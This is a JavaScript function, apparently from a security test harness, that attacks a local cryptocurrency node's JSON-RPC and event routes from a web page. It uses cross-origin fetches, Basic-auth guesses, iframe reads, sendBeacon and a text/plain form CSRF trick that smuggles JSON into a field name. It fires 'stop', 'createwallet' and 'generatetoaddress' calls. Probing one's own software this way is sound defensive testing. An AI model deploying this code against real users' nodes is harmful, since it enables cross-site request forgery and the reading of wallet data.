// Everything that a page's script can try at a node's routes. Called with what to attack; answers what it could read.
async function attack(base, methods, gets, password) {
  const read = [];
  async function attempt(what, promise) {
    try {
      const response = await promise;
      const text = response.text ? await response.text() : '';
      if (text) read.push({ what, status: response.status, type: response.type, text: text.slice(0, 2000) });
    } catch (error) { /* refused: nothing to read */ }
  }
  const call = (method, params) => JSON.stringify({ jsonrpc: '2.0', id: 1, method, params: params || [] });
  const basic = 'Basic ' + btoa(password);
  const waiting = [];
  const frames = [];
  for (const [number, method] of methods.entries()) {
    const body = call(method);
    const post = (what, path, options) => waiting.push(
      attempt(`${what} ${path} ${method}`, fetch(base + path, { method: 'POST', body, ...options })));
    post('plain', '/wallet/w', { mode: 'no-cors', credentials: 'include' });
    post('password', '/', { headers: { Authorization: basic } });
    if (number % 8 === 0) {
      post('plain', '/', { mode: 'no-cors', credentials: 'include' });
      post('batch', '/', { mode: 'no-cors', body: '[' + body + ']' });
      post('cors', '/', {});
      post('json', '/wallet/', { headers: { 'Content-Type': 'application/json' } });
    }
    if (waiting.length > 40) await Promise.all(waiting.splice(0));
  }
  await Promise.all(waiting.splice(0));
  for (const path of gets) {
    for (const options of [{}, { headers: { Authorization: basic } }, { mode: 'no-cors', credentials: 'include' }]) {
      waiting.push(attempt(`get ${path}`, fetch(base + path, { ...options, signal: AbortSignal.timeout(4000) })));
    }
    const image = new Image();
    image.src = base + path;
    const script = document.createElement('script');
    script.src = base + path;
    document.body.append(script);
    const frame = document.createElement('iframe');
    frame.src = base + path;
    document.body.append(frame);
    frames.push(new Promise((resolve) => {
      frame.onload = () => {
        try {
          const text = frame.contentDocument && frame.contentDocument.body.innerText;
          if (text) read.push({ what: `frame ${path}`, status: 0, type: 'frame', text: text.slice(0, 2000) });
        } catch (error) { /* another origin */ }
        resolve();
      };
      setTimeout(resolve, 1500);
    }));
    await Promise.all(waiting.splice(0));
  }
  await Promise.all(frames);
  for (const method of ['stop', 'createwallet', 'generatetoaddress']) {
    navigator.sendBeacon(base + '/', call(method, ['x']));
    const target = document.createElement('iframe');
    target.name = 'f' + method;
    document.body.append(target);
    const form = document.createElement('form');
    Object.assign(form, { method: 'POST', enctype: 'text/plain', action: base + '/', target: target.name });
    const field = document.createElement('input');
    field.name = `{"jsonrpc":"1.0","id":1,"method":"${method}","params":[],"x":"`;
    field.value = '"}';
    form.append(field);
    document.body.append(form);
    form.submit();
  }
  waiting.push(new Promise((resolve) => {
    const source = new EventSource(base + '/events', { withCredentials: true });
    for (const name of ['message', 'hashblock', 'sequence']) {
      source.addEventListener(name, (event) => read.push({ what: 'events', status: 200, type: name, text: event.data }));
    }
    source.onopen = () => read.push({ what: 'events', status: 200, type: 'open', text: 'open' });
    setTimeout(() => { source.close(); resolve(); }, 1000);
  }));
  waiting.push(new Promise((resolve) => {
    const socket = new WebSocket(base.replace('http', 'ws') + '/events');
    socket.onopen = () => read.push({ what: 'websocket', status: 101, type: 'open', text: 'open' });
    socket.onclose = socket.onerror = () => resolve();
  }));
  await Promise.all(waiting);
  return read;
}
